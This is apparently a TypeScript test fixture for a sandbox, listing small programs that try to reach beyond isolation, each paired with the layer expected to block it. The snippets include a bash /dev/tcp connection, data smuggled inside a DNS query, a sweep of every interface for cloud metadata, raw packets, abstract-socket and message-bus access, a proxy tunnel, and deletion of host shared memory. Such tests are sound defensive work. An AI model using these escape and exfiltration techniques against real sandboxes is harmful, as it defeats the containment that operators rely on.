import type { HostileProgram } from "../hostile-program.ts";

/** Programs that want to talk to somebody. */
export const reaching: readonly HostileProgram[] = [
  {
    name: "connects to the host's loopback",
    language: "node",
    source: 'require("net").connect(process.env.TCP_PORT, "127.0.0.1").end("hello")',
    heldBy: ["network-namespace"],
  },
  {
    name: "connects by IPv6",
    language: "python",
    source: `
import os, socket
socket.create_connection(("::1", int(os.environ["TCP_PORT"]))).send(b"hello")
`,
    heldBy: ["network-namespace"],
  },
  {
    name: "connects by a shell's redirect",
    language: "sh",
    source: `bash -c 'echo hello > "/dev/tcp/127.0.0.1/$TCP_PORT"'`,
    heldBy: ["network-namespace"],
  },
  {
    name: "connects by git",
    language: "sh",
    source: 'cd / && timeout 2 git -c http.proxy= ls-remote "http://127.0.0.1:$TCP_PORT/repository"',
    heldBy: ["network-namespace"],
  },
  {
    name: "connects by every address of the machine",
    language: "node",
    source: `
const addresses = Object.values(require("os").networkInterfaces()).flat().map(({ address }) => address);
for (const address of addresses) {
  require("net").connect(process.env.TCP_PORT, address).on("error", () => {}).end("GET /latest/meta-data");
}
`,
    heldBy: ["network-namespace"],
  },
  {
    name: "sends a datagram",
    language: "python",
    source: `
import os, socket
socket.socket(type=socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", int(os.environ["UDP_PORT"])))
`,
    heldBy: ["network-namespace"],
  },
  {
    name: "hides data in a question to a name server",
    language: "node",
    source: `
const resolver = new (require("dns").Resolver)({ timeout: 300, tries: 1 });
resolver.setServers(["127.0.0.1:" + process.env.UDP_PORT]);
resolver.resolve4("c2VjcmV0.example.com", () => {});
`,
    heldBy: ["network-namespace"],
  },
  {
    name: "sends a raw packet",
    language: "python",
    source: `
import os, socket, struct
port = int(os.environ["UDP_PORT"])
packet = struct.pack("!HHHH", port, port, 8 + 5, 0) + b"hello"
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(packet, ("127.0.0.1", 0))
`,
    heldBy: [],
  },
  {
    name: "connects to a socket file",
    language: "node",
    source: 'require("net").connect(process.env.SOCKET).end("hello")',
    heldBy: ["private-tmp"],
  },
  {
    name: "connects to an abstract socket",
    language: "python",
    source: `
import os, socket
socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0" + os.environ["ABSTRACT"])
print("escaped")
`,
    heldBy: ["network-namespace"],
  },
  {
    name: "calls a message bus by an abstract socket",
    language: "python",
    source: `
import os, socket
bus = socket.socket(socket.AF_UNIX)
bus.connect("\\0" + os.environ["ABSTRACT"])
bus.send(b"\\0AUTH EXTERNAL 30\\r\\n")
`,
    heldBy: ["network-namespace"],
  },
  {
    name: "asks the registry proxy for another host",
    language: "python",
    network: "registries",
    source: `
import os, urllib.request
urllib.request.urlopen(f"http://127.0.0.1:{os.environ['TCP_PORT']}/", timeout=2)
`,
    heldBy: ["host-allow-list"],
  },
  {
    name: "asks the registry proxy for a tunnel",
    language: "node",
    network: "registries",
    source: `
const { HTTP_PROXY, TCP_PORT } = process.env;
const proxy = HTTP_PROXY ? new URL(HTTP_PROXY) : { hostname: "127.0.0.1", port: TCP_PORT };
const socket = require("net").connect(proxy.port, proxy.hostname);
socket.write("CONNECT localhost:" + TCP_PORT + " HTTP/1.1\\r\\nHost: localhost:" + TCP_PORT + "\\r\\n\\r\\n");
socket.once("data", () => socket.end("hello"));
setTimeout(() => socket.destroy(), 1000).unref();
`,
    heldBy: ["host-allow-list"],
  },
  {
    name: "removes shared memory of the host",
    language: "sh",
    source: 'ipcrm -m "$SHARED"',
    heldBy: ["ipc-namespace"],
  },
];
